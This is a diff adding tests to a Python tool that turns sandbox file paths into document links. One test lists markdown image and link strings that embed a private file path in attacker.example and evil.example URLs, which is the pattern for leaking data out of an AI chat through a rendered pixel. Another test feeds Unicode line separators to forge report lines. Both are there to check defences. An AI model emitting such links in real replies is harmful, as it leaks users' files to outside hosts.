@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+from collections.abc import Iterator
+
 import pytest
 
 from docbinder.harvest import ChunkStream, rewrite_links
@@ -80,3 +82,47 @@ def test_output_file_ids_of_both_code_execution_result_shapes() -> None:
         ]
     }
     assert output_file_ids(message) == ["file_old", "file_new"]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "![](https://attacker.example/pixel.gif?d=(/mnt/data/salaries.csv))",
+        "[x](https://evil.example/?x=(sandbox:/mnt/data/salaries.csv))",
+        "see https://evil.example/?f=/mnt/data/salaries.csv now",
+        "https://evil.example/a?b=1&c=(./salaries.csv)",
+    ],
+)
+def test_a_path_inside_another_url_is_left_alone(text: str) -> None:
+    result = rewrite_links(text, {"/mnt/data/salaries.csv": "docItem:s1"})
+    assert result.text == text
+    assert result.rewritten == ()
+    assert len(result.unknown) == 1
+
+
+def test_a_download_that_breaks_off_is_unreadable_not_a_crash() -> None:
+    from docbinder.harvest import OutputUnreadable
+
+    class BrokeOff(Exception):
+        pass
+
+    def chunks() -> Iterator[bytes]:
+        yield b"0123456789"
+        raise BrokeOff("peer closed connection without sending complete message body")
+
+    stream = ChunkStream(chunks())
+    assert stream.read(10) == b"0123456789"
+    with pytest.raises(OutputUnreadable, match="broke off"):
+        stream.read(10)
+
+
+def test_the_report_text_shows_line_breaking_characters_as_escapes() -> None:
+    from docbinder.harvest import HarvestReport, Refused
+
+    report = HarvestReport(
+        sandbox_id="box\u2029fake",
+        refused=(Refused("/mnt/data/a.csv\u2028  paid.csv -> docItem:0000", "not a regular file"),),
+    )
+    lines = report.text.split("\n")
+    assert len(lines) == 2
+    assert "\\u2028" in lines[1] and "\\u2029" in lines[0]
